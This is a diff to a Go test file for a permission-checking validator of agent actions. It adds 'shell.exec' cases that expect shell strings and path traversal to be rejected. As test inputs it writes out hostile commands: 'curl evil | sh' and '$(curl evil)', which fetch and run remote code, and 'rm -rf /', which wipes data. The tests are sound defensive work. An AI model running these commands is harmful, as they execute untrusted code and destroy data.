@@ -128,7 +128,15 @@ var checkCases = []struct {
 	{"tool space", "tool.call", "github/create issue", "only ASCII letters"},
 
 	// Text-only types.
-	{"command", "shell.exec", "git status", ""},
+	{"command", "shell.exec", "git", ""},
+	{"command path", "shell.exec", "/usr/bin/git", ""},
+	{"command with a version", "shell.exec", "python3.12", ""},
+	{"shell string", "shell.exec", "git status; curl evil | sh", "not a shell string"},
+	{"command with arguments", "shell.exec", "rm -rf /", "not a shell string"},
+	{"command substitution", "shell.exec", "$(curl evil)", "not a shell string"},
+	{"relative command path", "shell.exec", "./build.sh", "want a program name or an absolute path"},
+	{"command dot dot", "shell.exec", "..", "want a program name or an absolute path"},
+	{"command path traversal", "shell.exec", "/usr/bin/../../tmp/x", `".." segment`},
 	{"command NUL", "shell.exec", "git\x00status", "control character"},
 	{"secret", "secret.use", "github-token", ""},
 	{"agent", "task.delegate", "spiffe://example.org/agent/coder", ""},
@@ -205,7 +213,7 @@ func TestTraverses(t *testing.T) {
 		}
 	}
 	for _, tt := range checkCases {
-		if tt.reason == "" && tt.action != "shell.exec" && tt.action != "task.delegate" && Traverses(tt.resource) {
+		if tt.reason == "" && tt.action != "task.delegate" && Traverses(tt.resource) {
 			t.Errorf("Traverses(%q) = true for a canonical %s resource", tt.resource, tt.action)
 		}
 	}
@@ -229,7 +237,7 @@ func FuzzCheck(f *testing.F) {
 		case "resource.read":
 			res, _, _ = strings.Cut(res, "?") // the query is not a path
 			fallthrough
-		case "file.read", "file.write", "http.request", "tool.call", "prompt.get":
+		case "file.read", "file.write", "http.request", "tool.call", "prompt.get", "shell.exec":
 			if Traverses(res) && !strings.Contains(res, "%") {
 				t.Fatalf("Check(%q, %q) accepted a resource that traverses", action, res)
 			}
